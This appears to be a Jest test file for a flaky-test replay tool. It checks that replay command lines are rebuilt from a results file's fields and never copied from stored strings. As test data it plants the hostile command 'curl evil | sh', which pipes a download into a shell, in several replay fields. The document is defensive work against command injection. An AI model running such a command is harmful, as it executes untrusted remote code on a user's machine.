/** Lines built anew from the fields of a results.json: as the session's own were, and nothing of the stored ones in them. */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from '@jest/globals';
import { analyze } from '../../src/analyze/analysis.ts';
import { rebuiltLine } from '../../src/cli/rebuilt-line.ts';
import { chooseReplay } from '../../src/cli/replay-choice.ts';
import { recogniseFramework } from '../../src/frameworks/frameworks.ts';
import { replaysOf } from '../../src/frameworks/replays.ts';
import { type Conditions, PLAIN_CONDITIONS } from '../../src/model/conditions.ts';
import { resultsOf } from '../../src/report/results.ts';
import type { Results } from '../../src/report/results-schema.ts';
import { observation } from '../analyze/sessions.ts';
import { sessionOf } from '../analyze/whole-session.ts';

const folder = mkdtempSync(join(tmpdir(), 'rebuilt-'));
afterAll(() => rmSync(folder, { recursive: true }));

/** As a session and a replay recognise it. */
async function frameworkOf(testCommand: string) {
  const asked = { testCommand, outputDir: folder, reportFiles: null, perturb: [], portableReplays: false };
  return (await recogniseFramework({ ...asked, framework: 'auto' }, { directory: folder })).framework;
}

interface Ground {
  readonly results: Results;
  readonly framework: Awaited<ReturnType<typeof frameworkOf>>;
}

async function measured(command: string, conditions: Partial<Conditions> = {}): Promise<Ground> {
  const framework = await frameworkOf(command);
  const use = framework === null ? null : { name: framework.name, seedKnob: null, extendedCommand: null };
  const failing = { conditions: { ...PLAIN_CONDITIONS, ...conditions } };
  const tests = ['a', "it's b"].map((name) => ({ file: 'test_a.py', suite: null, name }));
  const runs = [observation(0, 'pp'), observation(1, 'pf', failing)];
  const session = sessionOf(runs, { framework: use, tests, header: { command } });
  const known = { ...session, replays: replaysOf(session, analyze(session), framework) };
  return { results: resultsOf(known, analyze(known)), framework };
}

/** The same with other lines: what a stranger would have run. */
function poisoned(results: Results): Results {
  const evil = 'curl evil | sh';
  const tests = results.tests.map((test) => ({ ...test, replay_command: test.replay_command === null ? null : evil }));
  return { ...results, replay_command: evil, tests };
}

function built({ results, framework }: Ground, test: string | null = null) {
  const stranger = poisoned(results);
  return rebuiltLine(stranger, chooseReplay(stranger, test), framework);
}

test('a test that failed in part has a run that failed', async () => {
  const session = sessionOf([observation(0, 'p'), observation(1, 'm', { outcome: { kind: 'failed', exitCode: 1 } })]);
  const known = { ...session, replays: replaysOf(session, analyze(session), null) };
  const results = resultsOf(known, analyze(known));
  const replay = { test: results.tests[0]?.id ?? '', commandLine: '', promise: null, tests: [] };
  const framework = await frameworkOf('npm test');
  expect(rebuiltLine(results, replay, framework).commandLine).toContain('TEST_SEED=1001');
});

describe('the line is the session’s own', () => {
  test.each<[string, Partial<Conditions>]>([
    ['pytest -q', {}],
    ['node --test', {}],
    ['npx mocha', {}],
    ['make check', {}],
    ['pytest && echo done', { timezone: 'Asia/Tokyo', locale: "C'x", cpu: 'one-cpu' }],
  ])('%s %j', async (command, conditions) => {
    const ground = await measured(command, conditions);
    expect(built(ground)).toEqual({ commandLine: ground.results.replay_command, note: null });
    const stored = ground.results.tests[1]?.replay_command ?? null;
    if (stored !== null) expect(built(ground, 'it').commandLine).toBe(stored);
  });
});

test('of a test that others break, the line that runs those before it', async () => {
  const ground = await measured('pytest');
  const ids = ground.results.tests.map(({ id }) => id);
  const [before = '', victim = ''] = ids;
  const predecessors = {
    ...{ kind: 'found' as const, role: 'polluter' as const, tests: [before], command: 'curl evil | sh' },
    ...{ failed: 8, runs: 8, alone_failed: 0, alone_runs: 8, search_runs: 1 },
  };
  const entry = { test: victim, tests: [victim], cause: 'order-dependent' as const, mechanism: null, replay: null };
  const results = { ...ground.results, diagnosis: [{ ...entry, predecessors, more_runs: null, evidence: [] }] };
  const { commandLine } = built({ ...ground, results });
  expect(commandLine).toMatch(/^TEST_SEED=1001 .*_CHOSEN='\["test_a\.py::a","test_a\.py::it.* pytest test_a\.py$/);
});

test('a seed that was shown to decide goes before that of the first failing run', async () => {
  const ground = await measured('make check');
  const proven = { command: 'curl evil | sh', seed: 77, failed: 8, runs: 8, selects_test: false };
  const replay = { ...proven, control_seed: 1, control_failed: 0, control_runs: 8 };
  const entry = { test: null, tests: [], cause: 'seed-controlled' as const, mechanism: null, predecessors: null };
  const results = { ...ground.results, diagnosis: [{ ...entry, replay, more_runs: null, evidence: [] }] };
  expect(built({ ...ground, results }).commandLine).toBe('TEST_SEED=77 make check');
});

describe('where less can be built, that is said', () => {
  test('a framework that the folder does not show', async () => {
    const { results } = await measured('pytest');
    const { commandLine, note } = built({ results, framework: null }, 'it');
    expect(commandLine).toBe('TEST_SEED=1001 ATTEMPT=1 pytest');
    expect(note).toMatch(/shows that the command runs pytest. The line is the whole command/);
  });

  test('no framework at all, and one test asked for', async () => {
    const { results } = await measured('pytest');
    expect(built({ results: { ...results, framework: null }, framework: null }, 'it').note).toMatch(/runs all tests/);
  });

  test('no run that failed is an error', async () => {
    const { results, framework } = await measured('pytest');
    const without = { ...results, results: results.results.slice(0, 1) };
    expect(() => built({ results: without, framework })).toThrow(/have no failing run/);
  });
});
